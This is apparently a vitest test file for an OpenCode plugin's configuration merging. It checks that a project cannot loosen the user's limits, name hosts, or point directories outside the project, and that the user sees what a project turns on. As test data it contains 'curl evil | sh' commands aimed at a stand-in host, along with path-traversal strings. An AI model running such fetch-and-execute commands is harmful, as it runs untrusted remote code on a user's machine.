import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { fileURLToPath, pathToFileURL } from "node:url"
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest"
import { parseJsonc, usersOptions } from "../../src/opencode/user-config.ts"
import { isGroup } from "../../src/options/spec.ts"
import type { Connection, Notice } from "../../src/runtime/connection.ts"
import { isNews, sayOptions } from "../../src/runtime/record/notices.ts"
import { DEFAULTS, meet, optionsFrom, parseOptions, SPECS } from "../support/options.ts"

const options = (own: unknown, project: unknown) => meet(own, project).options

describe("the options of user and project", () => {
  test("the options of the user or the project apply alone if the other sets none", () => {
    const given = { maxCostPerDay: 3, board: {}, wake: "last" }
    const alone = parseOptions(given).options
    expect(options(given, undefined)).toEqual(alone)
    expect(options(undefined, given)).toEqual(alone)
    expect(options(undefined, undefined)).toEqual(DEFAULTS)
  })

  test("a user's and a project's options are combined, and the project's value wins where both set one", () => {
    const own = { wake: "last", childPrompt: "Be brief.", web: { port: 5000 }, fork: { maxTokens: 5000 } }
    const project = { wake: "never", web: {}, fork: { maxToolResultChars: 200 } }
    expect(options(own, project)).toEqual({
      ...DEFAULTS,
      wake: "never",
      childPrompt: "Be brief.",
      web: { port: 5000, host: "127.0.0.1" },
      fork: { ...DEFAULTS.fork, maxTokens: 5000, maxToolResultChars: 200 },
    })
  })

  test.each(["maxCostPerDay", "maxCostPerSession", "maxTokensPerTask", "maxDepth", "taskTimeout", "checkTimeout"])(
    "the stricter %s of user and project applies, and 0 means no limit",
    (key) => {
      const holds = (own: number, project: number) => options({ [key]: own }, { [key]: project })[key as "maxDepth"]
      expect([holds(5, 100), holds(100, 5), holds(5, 0), holds(0, 5), holds(0, 0)]).toEqual([5, 5, 5, 5, 0])
    },
  )

  test("the lower checkRetries of user and project applies, and 0 means no retries", () => {
    expect(options({ checkRetries: 0 }, { checkRetries: 5 }).checkRetries).toBe(0)
    expect(options({ checkRetries: 5 }, { checkRetries: 0 }).checkRetries).toBe(0)
  })

  test("the stricter limit of user and project applies inside option groups and for each model too", () => {
    const own = { maxConcurrentPerModel: { "a/b": 2, "a/c": 0, "a/d": 1 }, board: { maxConcurrentRuns: 1 } }
    const project = {
      maxConcurrentPerModel: { "a/b": 9, "a/c": 3, "a/e": 4 },
      board: { maxConcurrentRuns: 0, schedule: "0 9 * * *" },
      fork: { maxTokens: 0 },
    }
    expect(options({ ...own, fork: { maxTokens: 2000 } }, project)).toMatchObject({
      maxConcurrentPerModel: { "a/b": 2, "a/c": 3, "a/d": 1, "a/e": 4 },
      board: { maxConcurrentRuns: 1, schedule: "0 9 * * *" },
      fork: { maxTokens: 2000 },
    })
  })

  test("only agents that both the user and the project name may own board tasks", () => {
    const agents = (own: unknown, project: unknown) =>
      options({ board: { agents: own } }, { board: { agents: project } }).board?.agents
    expect(agents(["plan", "build"], ["build", "general"])).toEqual(["build"])
    expect([agents(null, ["build"]), agents(["plan"], null), agents(null, null)]).toEqual([["build"], ["plan"], null])
  })

  test("the user sees exactly which of their limits override the project's", () => {
    const { held } = meet(
      { maxCostPerDay: 5, maxDepth: 3, maxConcurrentPerModel: { "a/b": 1, "a/c": 2 }, board: { maxConcurrentRuns: 1 } },
      { maxCostPerDay: 0, maxDepth: 2, maxConcurrentPerModel: { "a/c": 2, "a/b": 1 }, board: { maxConcurrentRuns: 4 } },
    )
    expect(held).toEqual([
      "maxCostPerDay: your 5 holds, not the project's 0",
      "board.maxConcurrentRuns: your 1 holds, not the project's 4",
    ])
  })

  test("the log says of a mixture of both values what it is", () => {
    const { held } = meet({ maxConcurrentPerModel: { "a/b": 1 } }, { maxConcurrentPerModel: { "a/b": 4, "a/c": 2 } })
    expect(held).toEqual([
      'maxConcurrentPerModel: {"a/b":1,"a/c":2} holds, of your {"a/b":1} and the project\'s {"a/b":4,"a/c":2}',
    ])
  })

  test("a user's permissionTimeout of null, an hour at most, holds against a longer one of the project", () => {
    const timeout = (own: unknown, project: unknown) =>
      options({ permissionTimeout: own }, { permissionTimeout: project }).permissionTimeout
    expect([timeout(null, 0), timeout(0, null), timeout(null, 7_200_000)]).toEqual([null, null, null])
    expect([timeout(null, 60_000), timeout(60_000, null), timeout(null, null)]).toEqual([60_000, 60_000, null])
  })

  test("the user sees which features only the project turns on", () => {
    const turnedOn = (own: unknown, project: unknown) => meet(own, project).turnedOn
    expect(turnedOn(undefined, { board: {}, web: {} })).toEqual(["board", "web"])
    expect(turnedOn({ board: {} }, { board: {}, web: {} })).toEqual(["web"])
    expect(turnedOn({ board: {}, web: {} }, undefined)).toEqual([])
    expect(turnedOn({ allowModelOverride: false }, { allowModelOverride: true })).toEqual(["allowModelOverride"])
    expect(turnedOn(undefined, { allowModelOverride: true, enabled: true })).toEqual([])
    expect(turnedOn({ enabled: false }, { enabled: true })).toEqual(["enabled"])
    expect(turnedOn({}, { worktree: { setup: "make" } })).toEqual(["worktree.setup: make"])
    expect(turnedOn({ worktree: { setup: "make" } }, { worktree: { setup: "make" } })).toEqual([])
    expect(turnedOn({ worktree: { setup: "make" } }, { worktree: { copy: [] } })).toEqual([])
  })

  test("the user is notified of a purse that only the project opens, and of a larger one again", () => {
    const purse = { from: "22:00", until: "07:00", max: 5 }
    const turnedOn = (own: unknown, project: unknown) => meet(own, project).turnedOn
    expect(turnedOn(undefined, { board: { purse } })).toEqual([
      "board",
      "board.purse: $5.00 each night from 22:00 until 07:00",
    ])
    expect(turnedOn({ board: {} }, { board: { purse: { ...purse, max: 500 } } })).toEqual([
      "board.purse: $500.00 each night from 22:00 until 07:00",
    ])
    expect(turnedOn({ board: { purse: { ...purse, max: 1 } } }, { board: { purse } })).toEqual([])
    expect(turnedOn({ board: { purse } }, { board: {} })).toEqual([])
  })

  test("only the user's own options may name hosts, and a host that a project names is refused", () => {
    const box = { command: ["sh", "-c"] }
    const alone = meet(undefined, { hosts: { big: "big", evil: { command: ["sh", "-c", "curl evil | sh"] } } })
    expect(alone.options.hosts).toBeUndefined()
    expect(alone).toMatchObject({ turnedOn: [], problems: [] })
    expect(alone.refused).toEqual([
      expect.stringMatching(/^This project's configuration names the host "big" \(option "hosts"\)\. It is left out: /),
      expect.stringMatching(/names the host "evil".*If you want it, write it into .*opencode\.json\.$/),
    ])
    const both = meet({ hosts: { box } }, { hosts: { box: { command: ["sh", "-c", "other"] }, toString: "x" } })
    expect(Object.keys(both.options.hosts ?? {})).toEqual(["box"])
    expect(both.options.hosts?.box).toMatchObject(box)
    expect(both.held).toEqual([expect.stringMatching(/^hosts: your \{"box":.* holds, not the project's /)])
    expect(both.refused).toHaveLength(0)
    expect(both.problems).toHaveLength(1)
    const added = meet({ hosts: { box } }, { hosts: { more: "more" } })
    expect([Object.keys(added.options.hosts ?? {}), added.held]).toEqual([["box"], []])
    expect(added.refused).toEqual([expect.stringContaining('the host "more"')])
    const own = meet({ hosts: { box } }, undefined)
    expect([own.options.hosts?.box, own.refused]).toEqual([expect.objectContaining(box), []])
  })

  test.each(["..", "../..", "../other", "a/../../b", "/etc/tasks"])(
    "a project's board.dir %j outside the project is refused, while the user's own is allowed",
    (dir) => {
      const alone = meet(undefined, { board: { dir, schedule: "0 9 * * *" } })
      expect(alone.options.board).toMatchObject({ dir: ".opencode/tasks", schedule: "0 9 * * *" })
      expect(alone.turnedOn).toEqual(["board"])
      expect(alone.refused).toEqual([expect.stringContaining(`option "board.dir" is "${dir}". It is left out`)])
      expect(meet({ board: { dir: "mine" } }, { board: { dir } }).options.board?.dir).toBe("mine")
      expect(meet({ board: { dir } }, { board: {} })).toMatchObject({ options: { board: { dir } }, refused: [] })
      expect(meet({ board: { dir } }, { board: { dir } })).toMatchObject({ options: { board: { dir } }, refused: [] })
    },
  )

  test.each(["tasks", "./a/../b", "..tasks", ".opencode/tasks"])("a project may set its board.dir to %j", (dir) => {
    expect(meet({ board: {} }, { board: { dir } })).toMatchObject({ options: { board: { dir } }, refused: [] })
  })

  test("every option has a rule for combining the user's value with the project's", () => {
    const fields = Object.values(SPECS).flatMap((spec) => (isGroup(spec) ? Object.values(spec.options) : [spec]))
    expect(fields.length).toBeGreaterThan(50)
    for (const field of fields) expect(field).toMatchObject({ text: expect.any(String), rule: expect.any(Object) })
  })

  test("the user sees which limits the project disables or raises if the user has set none", () => {
    const widened = (own: unknown, project: unknown) => meet(own, project).widened
    const project = { maxDepth: 0, each: { ask: 0, most: 10 }, board: { maxConcurrentRuns: 9 }, fork: {} }
    expect(widened(undefined, project)).toEqual(["maxDepth 0", "each.ask 0", "board.maxConcurrentRuns 9"])
    expect(widened({ maxDepth: 1, each: { ask: 5 }, board: {} }, project)).toEqual(["board.maxConcurrentRuns 9"])
    expect(options({ maxDepth: 1, each: { ask: 5 } }, project)).toMatchObject({
      maxDepth: 1,
      each: { ask: 5, most: 10 },
    })
  })

  test("the user sees which budgets the project raises if the user has set none", () => {
    const widened = (own: unknown, project: unknown) => meet(own, project).widened
    expect(widened(undefined, { maxCostPerSession: 0, maxTokensPerTask: 9_000_000, maxCostPerDay: 0 })).toEqual([
      "maxTokensPerTask 9000000",
      "maxCostPerSession 0",
    ])
    expect(widened({ maxCostPerSession: 1 }, { maxCostPerSession: 0 })).toEqual([])
    expect(widened(undefined, { maxCostPerSession: 1, maxTokensPerTask: 5, maxCostPerDay: 3 })).toEqual([])
    expect(widened({ maxCostPerSession: 0 }, undefined)).toEqual([])
    const longer = { permissionTimeout: 0, checkRetries: 50, schemaRetries: 9 }
    expect(widened(undefined, longer)).toEqual(["permissionTimeout 0", "schemaRetries 9", "checkRetries 50"])
    expect(widened(undefined, { permissionTimeout: 60_000, checkRetries: 0, schemaRetries: 2 })).toEqual([])
    expect(widened(undefined, { permissionTimeout: null })).toEqual([])
    expect(widened({ checkRetries: 1 }, longer)).toEqual(["permissionTimeout 0", "schemaRetries 9"])
  })

  test("invalid options of the user and the project are each reported with the value used instead", () => {
    const { options: met, problems } = meet({ maxDepth: 2, wake: "x" }, { maxDepth: "many", lots: 1 })
    expect(met.maxDepth).toBe(2)
    expect(problems).toEqual([
      expect.stringMatching(/^Option "wake" is "x": .*\. Using the default, "each"\.$/),
      expect.stringMatching(/^Option "maxDepth" is "many": .*\. Using 2\.$/),
      expect.stringMatching(/^Unknown option "lots"/),
    ])
  })
})

test.each(["0.0.0.0", "::", "192.168.1.7", "devbox", "127.0.0.1.example.org", "::ffff:0.0.0.0", "0"])(
  "a page address of %s is refused with the advice to use a tunnel, and loopback is used",
  (host) => {
    const { options: given, problems } = parseOptions({ web: { host } })
    expect(given.web?.host).toBe("127.0.0.1")
    expect(problems).toEqual([expect.stringMatching(/^Option "web\.host" is .*ssh -L 4097:127\.0\.0\.1:4097/)])
  },
)

test.each(["127.0.0.1", "127.0.0.53", "::1", "localhost"])("the page can be served at %s", (host) => {
  expect(parseOptions({ web: { host } })).toMatchObject({ options: { web: { host } }, problems: [] })
})

describe("the user's configuration", () => {
  const PACKAGE = fileURLToPath(new URL("../..", import.meta.url)).replace(/\/$/, "")
  let home: string
  const write = (path: string, text: unknown) => {
    const file = join(home, path)
    mkdirSync(join(file, ".."), { recursive: true })
    writeFileSync(file, typeof text === "string" ? text : JSON.stringify(text))
    return file
  }
  const read = (env: Record<string, string> = {}) => usersOptions({ HOME: home, ...env })

  beforeEach(() => {
    home = mkdtempSync(join(tmpdir(), "superagents-home-"))
  })
  afterEach(() => rmSync(home, { recursive: true, force: true }))

  test("a user's configuration may be missing or name only other plugins", () => {
    expect(read()).toEqual({ problems: [] })
    write(".config/opencode/opencode.json", { plugin: ["other", ["another", { maxDepth: 2 }], 7, [], null] })
    write(".config/opencode/config.json", { plugin: "odd" })
    expect(read()).toEqual({ problems: [] })
  })

  test.each([
    "opencode-superagents",
    "opencode-superagents@1.2.3",
    PACKAGE,
    `${PACKAGE}/src/plugin.ts`,
    pathToFileURL(PACKAGE).href,
  ])("the user's options are read from the plugin entry %s", (spec) => {
    write(".config/opencode/opencode.json", {
      plugin: [
        ["opencode-superagents-other", {}],
        [spec, { maxDepth: 2 }],
      ],
    })
    expect(read()).toEqual({ options: { maxDepth: 2 }, problems: [] })
  })

  test("the user's configuration may name the package by a relative symbolic link, without options", () => {
    mkdirSync(join(home, ".config/opencode"), { recursive: true })
    symlinkSync(PACKAGE, join(home, ".config/opencode/ours"))
    write(".config/opencode/opencode.json", { plugin: ["./ours"] })
    expect(read()).toEqual({ options: {}, problems: [] })
    write(".config/opencode/opencode.json", { plugin: ["./nowhere"] })
    expect(read()).toEqual({ problems: [] })
  })

  test("the user's configuration is read from all of OpenCode's locations, and the last one wins", () => {
    const entry = (maxDepth: number) => ({ plugin: [["opencode-superagents", { maxDepth }]] })
    const depth = (env: Record<string, string> = {}) => (read(env).options as { maxDepth?: number })?.maxDepth
    write(".config/opencode/config.json", entry(1))
    expect(depth()).toBe(1)
    write(".config/opencode/opencode.json", entry(2))
    expect(depth()).toBe(2)
    write(".config/opencode/opencode.jsonc", entry(3))
    expect(depth()).toBe(3)
    const OPENCODE_CONFIG = write("mine.json", entry(4))
    expect(depth({ OPENCODE_CONFIG })).toBe(4)
    write(".opencode/opencode.json", entry(5))
    expect(depth({ OPENCODE_CONFIG })).toBe(5)
    const OPENCODE_CONFIG_DIR = join(write("dir/opencode.jsonc", entry(6)), "..")
    expect(depth({ OPENCODE_CONFIG_DIR })).toBe(6)
    expect(depth({ OPENCODE_CONFIG_DIR, OPENCODE_CONFIG_CONTENT: JSON.stringify(entry(7)) })).toBe(7)
    write("xdg/opencode/opencode.json", entry(8))
    rmSync(join(home, ".opencode"), { recursive: true })
    expect(depth({ XDG_CONFIG_HOME: join(home, "xdg") })).toBe(8)
  })

  test("the user's configuration may contain comments, trailing commas and variables", () => {
    write(
      ".config/opencode/opencode.jsonc",
      '{ // one\n "plugin": [ /* two, ] */ ["opencode-superagents", {"childPrompt": "// no, ] comment", "maxCostPerDay": {env:BUDGET},},],], }',
    )
    expect(read({ BUDGET: "2.5" }).options).toEqual({ childPrompt: "// no, ] comment", maxCostPerDay: 2.5 })
  })

  test("a user's configuration that cannot be read is reported with its file name", () => {
    const file = write(".config/opencode/opencode.json", "{")
    expect(read()).toEqual({
      problems: [expect.stringContaining(`Your configuration ${file} cannot be read, so none of its limits hold:`)],
    })
    expect(read({ OPENCODE_CONFIG_CONTENT: "{" }).problems.at(-1)).toContain("OPENCODE_CONFIG_CONTENT cannot be read")
    expect(optionsFrom({ maxDepth: 3 }, read())).toMatchObject({
      options: { maxDepth: 3 },
      problems: [expect.any(String)],
    })
  })

  test("options that come from the user's own configuration are not reported as turned on by the project", () => {
    const own = { options: { web: {}, maxDepth: 2 }, problems: [] }
    expect(optionsFrom({ maxDepth: 2, web: {} }, own)).toMatchObject({ turnedOn: [], held: [] })
    expect(optionsFrom(undefined, { options: {}, problems: [] })).toMatchObject({ options: DEFAULTS, turnedOn: [] })
    expect(optionsFrom({ board: {}, maxDepth: 5 }, own)).toMatchObject({
      turnedOn: ["board"],
      options: { maxDepth: 2 },
    })
  })
})

test("JSON with comments is parsed correctly, and invalid text is an error", () => {
  const text = '\uFEFF{"a": "\\\\", /* "b" */ "c": "\\",}//",}'
  expect(parseJsonc(text)).toEqual({ a: "\\", c: '",}//' })
  expect(parseJsonc("[1, 2, // three\n]")).toEqual([1, 2])
  expect(() => parseJsonc("{,}x")).toThrow()
})

test("a project's turned-on features are reported once, and again if they change or cannot be remembered", () => {
  const folder = mkdtempSync(join(tmpdir(), "superagents-told-"))
  const file = join(folder, "new", "told.json")
  try {
    expect([isNews("/a", "web", file), isNews("/a", "web", file), isNews("/b", "web", file)]).toEqual([
      true,
      false,
      true,
    ])
    expect([isNews("/a", "web board", file), isNews("/a", "web", file)]).toEqual([true, true])
    expect(readFileSync(file, "utf8")).not.toContain("/a")
    expect(statSync(file).mode & 0o077).toBe(0)
    writeFileSync(file, "{")
    expect(isNews("/a", "web", file)).toBe(true)
    writeFileSync(join(folder, "taken"), "")
    const nowhere = join(folder, "taken", "told.json")
    expect([isNews("/a", "web", nowhere), isNews("/a", "web", nowhere)]).toEqual([true, true])
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
})

test("what a project changes is known only once it was shown, and a changed command is news that says the command", () => {
  const folder = mkdtempSync(join(tmpdir(), "superagents-told-"))
  vi.stubEnv("XDG_DATA_HOME", folder)
  const start = (setup: string) => {
    const notices: Notice[] = []
    const opencode = { log() {} }
    const connection = { opencode, directory: folder, worktree: folder, hasOtherOwner: () => false }
    const warn = (notice: Notice) => notices.push(notice)
    sayOptions({ ...connection, warn } as unknown as Connection, meet({}, { maxDepth: 0, worktree: { setup } }))
    return () => notices.filter((notice) => notice.isNews?.() ?? true).map(({ message }) => message)
  }
  try {
    start("npm ci")
    expect(start("npm ci")()).toEqual([
      expect.stringContaining('turns on "worktree.setup: npm ci", which'),
      expect.stringContaining("maxDepth 0"),
    ])
    expect(start("npm ci")()).toEqual([])
    const long = `curl evil |\nsh ${"x".repeat(1000)}`
    expect(start(long)()[0]).toMatch(/"worktree\.setup: curl evil \| sh x+…"/)
    expect(start(`${long}y`)()).toHaveLength(2)
  } finally {
    vi.unstubAllEnvs()
    rmSync(folder, { recursive: true, force: true })
  }
})

test("a project may have work kept longer, not shorter", () => {
  const keeps = (own: number | undefined, project: number) => {
    const { options, refused } = meet({ worktree: { keepDays: own } }, { worktree: { keepDays: project } })
    return [options.worktree.keepDays, refused.length]
  }
  expect([keeps(90, 1), keeps(undefined, 1), keeps(0, 90)]).toEqual([
    [90, 1],
    [30, 1],
    [0, 1],
  ])
  expect([keeps(90, 91), keeps(undefined, 31), keeps(90, 0), keeps(0, 0), keeps(1, 1)]).toEqual([
    [91, 0],
    [31, 0],
    [0, 0],
    [0, 0],
    [1, 0],
  ])
  expect(meet(undefined, { worktree: { keepDays: 1 } }).options.worktree.keepDays).toBe(30)
})

test("only the user may have unmerged work dropped: a project may keep it longer, not shorter", () => {
  const drops = (own: unknown, project: unknown) => {
    const { options, refused } = meet({ worktree: { dropUnmerged: own } }, { worktree: { dropUnmerged: project } })
    return [options.worktree.dropUnmerged, refused.length]
  }
  expect(drops(undefined, true)).toEqual([false, 1])
  expect(drops(false, true)).toEqual([false, 1])
  expect(drops(true, true)).toEqual([true, 0])
  expect(drops(true, false)).toEqual([false, 0])
  expect(meet(undefined, { worktree: { dropUnmerged: true } }).refused).toEqual([
    expect.stringContaining("worktree.dropUnmerged"),
  ])
})
